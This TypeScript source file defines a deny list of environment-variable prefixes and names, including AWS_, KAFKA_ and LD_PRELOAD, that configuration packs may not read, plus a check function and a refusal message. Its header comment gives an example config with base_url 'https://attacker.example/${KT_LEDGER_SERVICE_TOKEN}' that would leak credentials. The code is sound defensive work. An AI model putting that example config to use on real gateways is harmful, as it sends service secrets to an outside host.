// The environment variables a pack may never read. A pack travels from reporting to every gateway,
// and a gateway substitutes its own environment into `${VAR}` and `secret_key_ref.env`; without
// this list a reporting admin could write `base_url: https://attacker.example/${KT_LEDGER_SERVICE_TOKEN}`
// or `secret_key_ref: { env: KAFKA_SASL_PASSWORD }` and every gateway would send kt's own
// credentials to that host. docs/pack.md lists the same names; change both together.

/** Prefixes of kt's infrastructure variables (and of the runtimes and clients kt configures). */
export const RESERVED_ENV_PREFIXES = [
  'KT_',
  'KAFKA_',
  'DATABASE_',
  'LEDGER_',
  'REPORTING_',
  'PROBER_',
  'GATEWAY_',
  'OTEL_',
  'PG',
  'SIM_',
  'NODE_',
  'NPM_',
  'AWS_',
] as const;

/** Whole names of the process's own environment that say where and as whom it runs. */
export const RESERVED_ENV_NAMES = [
  'PATH',
  'HOME',
  'USER',
  'LOGNAME',
  'SHELL',
  'PWD',
  'HOSTNAME',
  'TMPDIR',
  'LD_PRELOAD',
  'LD_LIBRARY_PATH',
] as const;

const NAMES: ReadonlySet<string> = new Set(RESERVED_ENV_NAMES);

/** Whether a pack must not read `name` (compared as written: variable names are case-sensitive). */
export function isReservedEnvName(name: string): boolean {
  return NAMES.has(name) || RESERVED_ENV_PREFIXES.some((prefix) => name.startsWith(prefix));
}

/** The refusal, naming the variable (never a value) and the rule. */
export function reservedEnvMessage(name: string): string {
  return `${name} is one of kt's own variables (${RESERVED_ENV_PREFIXES.join('*, ')}*, ${RESERVED_ENV_NAMES.join(', ')}); a pack may not read it`;
}
